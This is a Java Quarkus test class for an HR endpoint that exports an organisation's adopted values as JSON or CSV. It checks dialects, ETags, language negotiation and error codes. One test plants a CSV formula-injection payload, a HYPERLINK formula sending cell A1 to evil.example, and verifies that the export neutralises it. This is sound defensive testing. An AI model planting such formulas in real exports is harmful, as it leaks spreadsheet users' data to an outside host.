package org.waarom.api.element;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.waarom.embedded.EmbeddedPostgresTestResource;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.nullValue;
import static org.hamcrest.Matchers.startsWith;
import static org.waarom.api.ApiTestSupport.adopt;
import static org.waarom.api.ApiTestSupport.asAdmin;
import static org.waarom.api.ApiTestSupport.assertProblem;
import static org.waarom.api.ApiTestSupport.draft;
import static org.waarom.api.ApiTestSupport.newOrganization;
import static org.waarom.api.ApiTestSupport.value;
import static org.waarom.api.ApiTestSupport.values;
import static org.waarom.api.element.Translations.create;
import static org.waarom.api.element.Translations.item;
import static org.waarom.api.element.Translations.itemsContent;

/**
 * {@code GET …/values/current} for HR systems (docs/hr-systems.md, issue 7): the values in effect with
 * their behaviours, version, effectiveFrom and language, as JSON or (Accept: text/csv) as CSV with a
 * header row, one row per value, behaviours joined by " | ", quoting by the CSV library.
 */
@QuarkusTest
@QuarkusTestResource(EmbeddedPostgresTestResource.class)
class CurrentValuesTest {

    private static final List<String> HEADER = List.of("key", "title", "description", "behaviours", "version", "effective_from", "language");
    /** Texts a hand-made CSV would break: a comma, quotes, a line break, a separator-looking character and non-ASCII. */
    private static final String TRICKY_DESCRIPTION = "We luisteren, \"echt\" luisteren;\nook als het moeilijk is — ook naar cliënten.";
    private static final String TRICKY_BEHAVIOUR = "We zeggen \"nee\", en leggen uit waarom.\r\nAltijd.";

    @Test
    void theValuesInEffectAsJson() {
        String org = newOrganization("valuesjson");
        draft(org, "values", values(value("oud", "Oud", "Weg ermee.")));
        adopt(org, "values", 1, "2020-01-01T00:00:00Z");
        draft(org, "values", Map.of("changeReason", "Nieuwe waarden", "content", Map.of("statement", "Onze waarden.", "items", List.of(
                Map.of("key", "respect", "title", "Respect", "description", "We vertrekken van wat de persoon wil.",
                        "behaviours", List.of("We vragen voor we handelen.", "We kloppen voor we binnengaan.")),
                value("openheid", "Openheid", "We zeggen wat we doen.")))));
        adopt(org, "values", 2, "2024-05-01T00:00:00Z");

        asAdmin().get(path(org)).then().statusCode(200)
                .contentType(startsWith("application/json"))
                .header("Content-Language", "nl")
                .body("organization", equalTo(org))
                .body("version", equalTo(2))
                .body("effectiveFrom", equalTo("2024-05-01T00:00:00Z"))
                .body("language", equalTo("nl"))
                .body("statement", equalTo("Onze waarden."))
                .body("values.key", contains("respect", "openheid"))
                .body("values[0].title", equalTo("Respect"))
                .body("values[0].description", equalTo("We vertrekken van wat de persoon wil."))
                .body("values[0].behaviours", contains("We vragen voor we handelen.", "We kloppen voor we binnengaan."))
                .body("values[1].description", nullValue());
        asAdmin().accept("application/json").get(path(org)).then().statusCode(200).body("version", equalTo(2));
        asAdmin().accept("*/*").get(path(org)).then().statusCode(200).contentType(startsWith("application/json"));
        asAdmin().accept("text/csv;q=0.5, application/json").get(path(org)).then().statusCode(200).contentType(startsWith("application/json"));
    }

    @Test
    void theValuesInEffectAsCsvParseBackExactly() throws IOException {
        String org = newOrganization("valuescsv");
        draft(org, "values", Map.of("changeReason", "test", "content", Map.of("items", List.of(
                Map.of("key", "luisteren", "title", "Luisteren, echt", "description", TRICKY_DESCRIPTION,
                        "behaviours", List.of(TRICKY_BEHAVIOUR, "We vatten samen, met 'eigen' woorden.")),
                value("openheid", "Openheid", "We zeggen wat we doen.")))));
        adopt(org, "values", 1, "2024-05-01T00:00:00Z");

        Response csv = asAdmin().accept("text/csv").get(path(org));
        csv.then().statusCode(200)
                .contentType(startsWith("text/csv"))
                .header("Content-Language", "nl");
        assertThat(csv.contentType().replace(" ", "")).contains(";charset=UTF-8").contains(";header=present");
        String body = csv.asString();
        assertThat(body).startsWith(String.join(",", HEADER) + "\r\n");

        List<Map<String, String>> rows = parse(body);
        assertThat(rows).hasSize(2);
        assertThat(rows.get(0)).containsExactlyEntriesOf(ordered(
                "key", "luisteren",
                "title", "Luisteren, echt",
                "description", TRICKY_DESCRIPTION,
                "behaviours", TRICKY_BEHAVIOUR + " | We vatten samen, met 'eigen' woorden.",
                "version", "1",
                "effective_from", "2024-05-01T00:00:00Z",
                "language", "nl"));
        assertThat(rows.get(1)).containsEntry("key", "openheid").containsEntry("description", "")
                .containsEntry("behaviours", "We zeggen wat we doen.");
        // The other media types an Accept can ask for.
        asAdmin().accept("text/*").get(path(org)).then().statusCode(200).contentType(startsWith("text/csv"));
        asAdmin().accept("application/json;q=0.1, text/csv").get(path(org)).then().statusCode(200).contentType(startsWith("text/csv"));
    }

    @Test
    void bothDialectsParseBackWithAnotherCsvLibrary() throws IOException {
        String org = newOrganization("valuesdialects");
        draft(org, "values", Map.of("changeReason", "test", "content", Map.of("items", List.of(
                Map.of("key", "luisteren", "title", "Luisteren, echt", "description", TRICKY_DESCRIPTION,
                        "behaviours", List.of(TRICKY_BEHAVIOUR, "We vatten samen; met 'eigen' woorden.")),
                value("openheid", "Openheid", "We zeggen wat we doen.")))));
        adopt(org, "values", 1, "2024-05-01T00:00:00Z");
        List<String> luisteren = List.of("luisteren", "Luisteren, echt", TRICKY_DESCRIPTION,
                TRICKY_BEHAVIOUR + " | We vatten samen; met 'eigen' woorden.", "1", "2024-05-01T00:00:00Z", "nl");

        // RFC 4180: commas, CRLF, no byte-order mark; the same with ?dialect=rfc4180.
        for (Response plain : List.of(asAdmin().accept("text/csv").get(path(org)),
                asAdmin().accept("text/csv").queryParam("dialect", "rfc4180").get(path(org)))) {
            plain.then().statusCode(200).contentType(startsWith("text/csv"));
            byte[] bytes = plain.asByteArray();
            assertThat(bytes[0]).isEqualTo((byte) 'k');
            String text = new String(bytes, StandardCharsets.UTF_8);
            assertThat(text).startsWith(String.join(",", HEADER) + "\r\n").endsWith("\r\n");
            List<CSVRecord> rows = commonsCsv(text, CSVFormat.RFC4180);
            assertThat(rows).hasSize(2);
            assertThat(rows.get(0).toList()).containsExactlyElementsOf(luisteren);
            assertThat(rows.get(1).get("description")).isEmpty();
        }

        // For a spreadsheet: a UTF-8 byte-order mark, then semicolons between the fields, CRLF.
        Response spreadsheet = asAdmin().accept("text/csv").queryParam("dialect", "spreadsheet").get(path(org));
        spreadsheet.then().statusCode(200).contentType(startsWith("text/csv")).header("Content-Language", "nl");
        byte[] bytes = spreadsheet.asByteArray();
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertThat(text).startsWith(String.join(";", HEADER) + "\r\n")
                .contains("\r\nopenheid;Openheid;;We zeggen wat we doen.;1;2024-05-01T00:00:00Z;nl\r\n");
        List<CSVRecord> rows = commonsCsv(text, CSVFormat.EXCEL.builder().setDelimiter(';').get());
        assertThat(rows).hasSize(2);
        assertThat(rows.get(0).toList()).containsExactlyElementsOf(luisteren);
        assertThat(rows.get(1).toList()).containsExactly("openheid", "Openheid", "", "We zeggen wat we doen.", "1", "2024-05-01T00:00:00Z", "nl");

        // Each dialect has its own ETag, which validates only its own bytes; one Vary header, with both tokens.
        String plainTag = asAdmin().accept("text/csv").get(path(org)).header("ETag");
        String spreadsheetTag = spreadsheet.header("ETag");
        assertThat(plainTag).endsWith("~csv\"");
        assertThat(spreadsheetTag).endsWith("~csv-spreadsheet\"").isNotEqualTo(plainTag);
        asAdmin().accept("text/csv").queryParam("dialect", "spreadsheet").header("If-None-Match", spreadsheetTag).get(path(org))
                .then().statusCode(304);
        asAdmin().accept("text/csv").header("If-None-Match", spreadsheetTag).get(path(org)).then().statusCode(200).header("ETag", plainTag);
        for (Response read : List.of(spreadsheet, asAdmin().accept("text/csv").get(path(org)), asAdmin().get(path(org)),
                asAdmin().accept("text/csv").header("If-None-Match", plainTag).get(path(org)))) {
            assertThat(read.headers().getValues("Vary")).containsExactly("Accept, Accept-Language");
        }
        // JSON is the same in either dialect; a dialect that does not exist is 400.
        asAdmin().queryParam("dialect", "spreadsheet").get(path(org)).then().statusCode(200).contentType(startsWith("application/json"))
                .header("ETag", asAdmin().get(path(org)).header("ETag"));
        assertProblem(asAdmin().accept("text/csv").queryParam("dialect", "excel").get(path(org)), 400, "invalid-request")
                .body("errors[0].field", equalTo("dialect"));
    }

    @Test
    void aCellThatWouldRunAsAFormulaIsWrittenAsText() throws IOException {
        String org = newOrganization("valuesformula");
        draft(org, "values", Map.of("changeReason", "test", "content", Map.of("items", List.of(
                Map.of("key", "formule", "title", "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik\")",
                        "description", "@SUM(A1:A9)", "behaviours", List.of("-2+3", "+32 2 555 01 01")),
                Map.of("key", "gewoon", "title", "Gewoon", "description", "Een = in het midden, - en + en @ ook.",
                        "behaviours", List.of("We tellen 1+1."))))));
        adopt(org, "values", 1, "2024-05-01T00:00:00Z");

        // The bytes: a single quote before =, @ and - at the start of a field (quoted only where the field needs it); the
        // same characters elsewhere in a field are left as they are.
        String plain = new String(asAdmin().accept("text/csv").get(path(org)).then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
        assertThat(plain.split("\r\n")).containsExactly(
                String.join(",", HEADER),
                "formule,\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Klik\"\")\",'@SUM(A1:A9),'-2+3 | +32 2 555 01 01,1,2024-05-01T00:00:00Z,nl",
                "gewoon,Gewoon,\"Een = in het midden, - en + en @ ook.\",We tellen 1+1.,1,2024-05-01T00:00:00Z,nl");
        byte[] spreadsheet = asAdmin().accept("text/csv").queryParam("dialect", "spreadsheet").get(path(org)).asByteArray();
        assertThat(new String(spreadsheet, StandardCharsets.UTF_8).split("\r\n")).containsExactly(
                "\uFEFF" + String.join(";", HEADER),
                "formule;\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Klik\"\")\";'@SUM(A1:A9);'-2+3 | +32 2 555 01 01;1;2024-05-01T00:00:00Z;nl",
                "gewoon;Gewoon;Een = in het midden, - en + en @ ook.;We tellen 1+1.;1;2024-05-01T00:00:00Z;nl");
        // A parser reads the quote as part of the text: a spreadsheet shows the text, a program strips the quote.
        CSVRecord formula = commonsCsv(plain, CSVFormat.RFC4180).get(0);
        assertThat(formula.get("title")).isEqualTo("'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik\")");
        assertThat(formula.get("description")).isEqualTo("'@SUM(A1:A9)");
        assertThat(formula.get("behaviours")).isEqualTo("'-2+3 | +32 2 555 01 01");
    }

    @Test
    void theCsvIsInTheNegotiatedLanguage() throws IOException {
        String org = TranslationTest.valuesOrganization("valuescsvfr");
        create(org, "values", 1, "fr", "APPROVED", itemsContent(
                item("respect", "Respect", "Nous partons de ce que la personne veut, toujours.", "Nous demandons avant d'agir."),
                item("openheid", "Ouverture", null, "Nous disons ce que nous faisons.")));
        Response csv = asAdmin().accept("text/csv").header("Accept-Language", "fr-BE, nl;q=0.5").get(path(org));
        csv.then().statusCode(200).header("Content-Language", "fr");
        List<Map<String, String>> rows = parse(csv.asString());
        assertThat(rows).extracting(row -> row.get("title")).containsExactly("Respect", "Ouverture");
        assertThat(rows).extracting(row -> row.get("language")).containsOnly("fr");
        assertThat(rows.get(0).get("description")).isEqualTo("Nous partons de ce que la personne veut, toujours.");
        asAdmin().queryParam("lang", "fr").get(path(org)).then().body("language", equalTo("fr")).body("values[1].title", equalTo("Ouverture"));
    }

    @Test
    void anyOtherMediaTypeIs406() {
        String org = TranslationTest.valuesOrganization("values406");
        for (String accept : List.of("application/xml", "text/html", "application/pdf, image/*")) {
            assertProblem(asAdmin().accept(accept).get(path(org)), 406, "not-acceptable");
        }
    }

    @Test
    void withoutAdoptedValuesTheAnswerIs404() {
        String org = newOrganization("valuesnone");
        assertProblem(asAdmin().get(path(org)), 404, "not-found").body("detail", equalTo("Organisation '" + org + "' has no adopted values yet"));
        assertProblem(asAdmin().accept("text/csv").get(path(org)), 404, "not-found");
        // A draft is not in effect.
        draft(org, "values", values(value("respect", "Respect", "We vragen.")));
        assertProblem(asAdmin().get(path(org)), 404);
        assertProblem(asAdmin().get("/api/v1/organizations/nope-" + org + "/values/current"), 404);
    }

    private static List<Map<String, String>> parse(String csv) throws IOException {
        CsvMapper mapper = new CsvMapper();
        CsvSchema schema = CsvSchema.emptySchema().withHeader();
        try (MappingIterator<Map<String, String>> rows = mapper.readerFor(Map.class).with(schema).readValues(csv)) {
            List<Map<String, String>> all = rows.readAll();
            assertThat(all).allSatisfy(row -> assertThat(row.keySet()).containsExactlyElementsOf(HEADER));
            return all;
        }
    }

    /** Parses with Apache Commons CSV (not the library that wrote it), the first row as the header. */
    private static List<CSVRecord> commonsCsv(String csv, CSVFormat format) throws IOException {
        try (CSVParser parser = format.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))) {
            assertThat(parser.getHeaderNames()).containsExactlyElementsOf(HEADER);
            return parser.getRecords();
        }
    }

    private static Map<String, String> ordered(String... keysAndValues) {
        Map<String, String> map = new java.util.LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put(keysAndValues[i], keysAndValues[i + 1]);
        }
        return map;
    }

    private static String path(String org) {
        return "/api/v1/organizations/" + org + "/values/current";
    }
}
